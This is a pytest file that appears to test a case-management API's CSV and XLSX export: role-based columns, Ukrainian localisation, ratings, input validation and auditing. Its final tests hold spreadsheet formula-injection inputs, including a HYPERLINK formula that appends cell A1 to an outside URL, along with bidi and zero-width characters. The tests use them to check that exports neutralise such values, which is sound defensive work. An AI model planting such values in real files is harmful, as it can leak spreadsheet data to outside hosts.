"""``/api/v1/export`` over HTTP on both engines: CSV parsed back equals the worklist,
XLSX opened with openpyxl (rows, types, headers per role), ratings, bad input, audit."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from storage import names
from storage.clock import FrozenClock
from storage.i18n import InContext
from storage.services.exports import Column, csv_chunks, write_xlsx
from tests.admin_api.helpers import ROLES, Api, audit_events
from tests.storage.helpers import content_snapshot, submit
from tests.storage.stats_seed import seed

PERIOD = {"from": "2026-10-01", "to": "2026-11-30"}
# The same period as UTC instants, for the worklist (Kyiv: UTC+3 then UTC+2).
WORKLIST_PERIOD = {"created_from": "2026-09-30T21:00:00Z", "created_to": "2026-11-30T22:00:00Z"}


@pytest.fixture
async def seeded(api: Api, clock: FrozenClock) -> Api:
    await seed(api.core, clock)
    for role in ROLES:
        await api.add_staff(role, role)
    return api


def english(message: str | InContext) -> str:
    return message.message if isinstance(message, InContext) else message


def parse_csv(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


async def worklist(api: Api, who: str, **params: str) -> list[dict[str, object]]:
    items: list[dict[str, object]] = []
    cursor = None
    while True:
        query = {**WORKLIST_PERIOD, **params, "sort": "created", "limit": "2"}
        if cursor:
            query["cursor"] = cursor
        page = (await api.call("GET", "/api/v1/cases", who, params=query)).json()
        items += page["items"]
        cursor = page["next_cursor"]
        if cursor is None:
            return items


@pytest.mark.parametrize("who", ["focal_point", "operator"])
async def test_csv_parsed_back_equals_the_worklist(seeded: Api, who: str) -> None:
    for filters in ({}, {"programme": "cash"}, {"status": "new"}, {"oblast": "UA-46"}):
        expected = await worklist(seeded, who, **filters)
        response = await seeded.call(
            "GET", "/api/v1/export", who, params={**PERIOD, **filters, "format": "csv"}
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        rows = parse_csv(response.content)
        assert [r["Reference"] for r in rows] == [i["ref"] for i in expected], filters
        for row, item in zip(rows, expected, strict=True):
            # Names in the file's language, codes in columns of their own.
            assert row["Category code"] == item["category"]
            assert row["Category"] == names.CATEGORY[str(item["category"])]
            assert row["Status code"] == item["status"]
            assert row["Status"] == english(names.STATUS[str(item["status"])])
            assert row["Priority"] == names.PRIORITY[str(item["priority"])]
            assert row["Oblast code"] == item["oblast"]
            assert row["Oblast"] == seeded.core.catalog.oblast(str(item["oblast"])).name("en")
            assert row["Programme code"] == (item["programme"] or "")
            if item["programme"]:
                programme = seeded.core.catalog.programme(str(item["programme"]))
                assert row["Programme"] == programme.name("en")
            assert (row["Channel"], row["Channel code"]) == ("Telegram bot", "telegram")
            assert row["Sensitive"] == str(item["sensitive"]).lower()
            received = datetime.fromisoformat(row["Received (Kyiv time)"])
            assert received.tzinfo is None  # Kyiv wall clock, as the header says
    everything = parse_csv((await seeded.call("GET", "/api/v1/export", who, params=PERIOD)).content)
    assert len(everything) == (6 if who == "focal_point" else 5)


def open_xlsx(content: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(content))


async def test_xlsx_rows_types_and_headers_per_role(seeded: Api) -> None:
    sheets = {}
    for who in ("focal_point", "operator", "analyst", "admin"):
        response = await seeded.call(
            "GET", "/api/v1/export", who, params={**PERIOD, "format": "xlsx"}
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml"
        )
        sheets[who] = open_xlsx(response.content).active

    def header(sheet) -> list[str]:  # type: ignore[no-untyped-def]
        return [c.value for c in sheet[1]]

    staff_only = {"Assignee", "Tags", "Contact", "Narrative"}
    assert staff_only <= set(header(sheets["focal_point"]))
    assert staff_only <= set(header(sheets["operator"]))
    for who in ("analyst", "admin"):
        assert not staff_only & set(header(sheets[who]))

    focal = sheets["focal_point"]
    assert focal.freeze_panes == "A2"
    assert focal.auto_filter.ref == f"A1:{focal.cell(1, focal.max_column).column_letter}7"
    assert focal.column_dimensions["B"].width >= len("Received (Kyiv time)")
    names = header(focal)
    rows = [dict(zip(names, (c.value for c in row), strict=True)) for row in focal.iter_rows(2)]
    assert len(rows) == 6
    first = rows[0]  # C: received 2026-10-01 00:00 Kyiv time
    assert first["Received (Kyiv time)"] == datetime(2026, 10, 1, 0, 0)
    assert isinstance(first["Resolved"], datetime)
    assert first["Sensitive"] is False
    assert first["Handling score"] == 4
    assert first["Acknowledgement SLA"] == "met late"
    assert first["Narrative"] == "Видали менше продуктів, ніж у списку."
    sensitive = [r for r in rows if r["Sensitive"]]
    assert [r["Category code"] for r in sensitive] == ["fraud_corruption"]
    assert [r["Category"] for r in sensitive] == ["Fraud or corruption"]
    assert sensitive[0]["Narrative"] is None  # never in bulk

    # Issue 18: a sensitive report is no row of an analyst's export (the row carried its
    # minute, oblast, programme and language); analysts count it in /stats as one group.
    analyst_rows = list(sheets["analyst"].iter_rows(2, values_only=True))
    index = header(sheets["analyst"]).index
    assert len(analyst_rows) == 5
    assert not [r for r in analyst_rows if r[index("Sensitive")]]
    assert {r[index("Category code")] for r in analyst_rows} <= {
        "assistance_quality",
        "information_request",
        "staff_conduct",
    }
    assert len(list(sheets["operator"].iter_rows(2))) == 5
    assert len(list(sheets["admin"].iter_rows(2))) == 5


async def test_ukrainian_headers_and_ratings(seeded: Api) -> None:
    uk = await seeded.call(
        "GET", "/api/v1/export", "analyst", params={**PERIOD, "format": "xlsx", "lang": "uk"}
    )
    sheet = open_xlsx(uk.content).active
    assert [c.value for c in sheet[1]][:4] == [
        "Номер",
        "Отримано (за київським часом)",
        "Місяць",
        "Категорія",
    ]

    for who, has_comment in (("analyst", False), ("operator", True)):
        response = await seeded.call(
            "GET", "/api/v1/export", who, params={**PERIOD, "kind": "ratings"}
        )
        rows = parse_csv(response.content)
        assert [int(r["Score"]) for r in rows] == [5, 1, 2, 5]
        assert [r["Month"] for r in rows] == ["2026-10", "2026-10", "2026-11", "2026-11"]
        assert rows[1]["What went wrong"] == "How I was treated; Waiting time"
        assert rows[1]["What went wrong: codes"] == "respect;waiting_time"
        assert ("Comment" in rows[0]) is has_comment
    low = parse_csv(
        (
            await seeded.call(
                "GET",
                "/api/v1/export",
                "analyst",
                params={**PERIOD, "kind": "ratings", "score": ["1", "2"], "programme": "cash"},
            )
        ).content
    )
    assert [r["Score"] for r in low] == ["1", "2"]


async def test_ukrainian_files_name_codes_in_ukrainian_with_the_codes_beside(
    seeded: Api,
) -> None:
    """Issue 24: a Ukrainian file said `UA-46` and `information_request` under
    Ukrainian headers; it now names them, and keeps each code in a column of its own."""
    csv_rows = parse_csv(
        (
            await seeded.call(
                "GET",
                "/api/v1/export",
                "focal_point",
                params={**PERIOD, "lang": "uk", "programme": "cash", "status": "resolved"},
            )
        ).content
    )
    assert len(csv_rows) == 1  # G: information request, Lviv Oblast, cash, in English
    row = csv_rows[0]
    assert (row["Категорія"], row["Код категорії"]) == ("Запит інформації", "information_request")
    assert (row["Статус"], row["Код статусу"]) == ("Вирішено", "resolved")
    assert (row["Область"], row["Код області"]) == ("Львівська область", "UA-46")
    assert (row["Програма"], row["Код програми"]) == ("Грошова допомога", "cash")
    assert (row["Мова"], row["Код мови"]) == ("Англійська", "en")
    assert row["Код каналу"] == "telegram"

    book = open_xlsx(
        (
            await seeded.call(
                "GET",
                "/api/v1/export",
                "analyst",
                params={**PERIOD, "lang": "uk", "kind": "ratings", "format": "xlsx"},
            )
        ).content
    )
    sheet = book.active
    titles = [c.value for c in sheet[1]]
    rows = [dict(zip(titles, (c.value for c in r), strict=True)) for r in sheet.iter_rows(2)]
    assert [r["Програма"] for r in rows[:2]] == ["Продуктова допомога", "Грошова допомога"]
    assert [r["Код програми"] for r in rows[:2]] == ["food", "cash"]
    assert rows[1]["Що пішло не так"] == "Ставлення до мене; Довге очікування"
    # No code is left under a Ukrainian header where a name belongs.
    named = ("Вид", "Програма", "Що пішло не так", "Мова", "Канал")
    for row in rows:
        for title in named:
            assert row[title] is None or not row[title].isascii(), (title, row[title])
        assert (row["Канал"], row["Код каналу"]) == ("Telegram-бот", "telegram")
    assert {r["Вид"] for r in rows} == {"Допомога"}


async def test_every_export_is_audited(seeded: Api) -> None:
    await seeded.call(
        "GET", "/api/v1/export", "analyst", params={**PERIOD, "programme": "cash", "format": "xlsx"}
    )
    event = (await audit_events(seeded.core))[-1]
    assert event.action == "export.created"
    assert event.actor_name == "analyst"
    assert event.target == "export:cases"
    assert event.after is not None
    assert event.after["format"] == "xlsx"
    assert event.after["from"] == "2026-10-01"
    assert event.after["filters"] == {"programmes": ["cash"]}


async def test_bad_input_names_the_parameter(api: Api) -> None:
    await api.add_staff("analyst", "analyst")
    before = await content_snapshot(api.core)
    for params, named in (
        ({"format": "pdf"}, "format"),
        ({"kind": "people"}, "kind"),
        ({"lang": "fr"}, "lang"),
        ({"score": "6", "kind": "ratings"}, "score"),
        ({"from": "2026-11-05", "to": "2026-11-01"}, "from"),
        ({"from": "2020-01-01", "to": "2026-11-01"}, "to"),
        ({"programme": "space"}, "programme"),
        ({"colour": "red"}, "colour"),
    ):
        response = await api.call("GET", "/api/v1/export", "analyst", params=params)
        assert response.status_code == 422, (params, response.text)
        body = response.json()
        where = [issue["loc"][-1] for issue in body.get("errors", [])]
        assert named in where or named in body["detail"], body
    refused = await api.call(
        "GET", "/api/v1/export", "analyst", params={"category": "sexual_exploitation"}
    )
    assert refused.status_code == 403
    rows_of_sensitive = await api.call(
        "GET", "/api/v1/export", "analyst", params={"sensitive": "true"}
    )
    assert rows_of_sensitive.status_code == 403
    assert "never as rows" in rows_of_sensitive.json()["detail"]
    # Nothing written: not even an audit event for a refused export.
    assert await content_snapshot(api.core) == before


DANGEROUS = [
    '=HYPERLINK("http://example.org/x?"&A1,"Open")',
    "+380 50 000 00 00",
    "-1 pack short",
    "@SUM(1+1)",
    "#N/A",
]


async def test_cells_that_would_run_are_text_and_hidden_characters_visible(
    staffed: Api,
) -> None:
    """Issue 18 §4–5: a narrative that starts like a formula is text in CSV (a leading
    apostrophe) and XLSX (a string cell with Excel's quote prefix, never a formula);
    bidi controls and zero-width characters show as markers."""
    for text in [*DANGEROUS, "Оплата\u202e00.001\u202c грн\u200bза місце"]:
        await submit(staffed.core, narrative=text)
    rows = parse_csv(
        (await staffed.call("GET", "/api/v1/export", "operator", params={"format": "csv"})).content
    )
    narratives = sorted(r["Narrative"] for r in rows)
    for text in DANGEROUS[:4]:
        assert "'" + text in narratives, narratives
    assert "#N/A" in narratives  # not a formula in CSV; kept as it is
    assert "Оплата⟨U+202E⟩00.001⟨U+202C⟩ грн⟨U+200B⟩за місце" in narratives

    response = await staffed.call("GET", "/api/v1/export", "operator", params={"format": "xlsx"})
    book = open_xlsx(response.content)
    sheet = book.active
    column = [c.value for c in sheet[1]].index("Narrative") + 1
    cells = {
        sheet.cell(r, column).value: sheet.cell(r, column) for r in range(2, sheet.max_row + 1)
    }
    for text in DANGEROUS:
        cell = cells[text]  # the text itself, as the reporter wrote it
        assert cell.data_type == "s", (text, cell.data_type)
    assert cells[DANGEROUS[0]].quotePrefix
    assert "Оплата⟨U+202E⟩00.001⟨U+202C⟩ грн⟨U+200B⟩за місце" in cells
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


async def test_the_writers_make_every_dangerous_start_text() -> None:
    """Tab and carriage return at the start too, which intake strips from narratives but
    a comment, a tag or a future column could carry; the header row as well."""
    values = ["=1+1", "+1", "-1", "@1", "\tx", "\r=1", "plain", "a\x1bb"]

    async def rows() -> AsyncIterator[list[object]]:
        yield list(values)

    body = b"".join([chunk async for chunk in csv_chunks(["=Title"], rows())]).decode()
    parsed = list(csv.reader(io.StringIO(body[1:])))
    assert parsed[0] == ["'=Title"]
    assert parsed[1] == ["'=1+1", "'+1", "'-1", "'@1", "'\tx", "'\r=1", "plain", "a⟨U+001B⟩b"]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.xlsx"
        columns = [Column(f"c{i}", "title", 10) for i in range(len(values))]
        await write_xlsx(path, columns, ["=Title"] + ["t"] * (len(values) - 1), rows(), title="x")
        sheet = load_workbook(path).active
        assert sheet.cell(1, 1).value == "=Title" and sheet.cell(1, 1).data_type == "s"
        written = [sheet.cell(2, c).value for c in range(1, len(values) + 1)]
        assert written[:5] == ["=1+1", "+1", "-1", "@1", "\tx"]
        assert written[5] in ("\r=1", "\n=1")  # XML reads a carriage return back as \n
        assert written[7] == "a⟨U+001B⟩b"  # openpyxl refuses the raw control character
        assert all(sheet.cell(2, c).data_type == "s" for c in range(1, len(values) + 1))
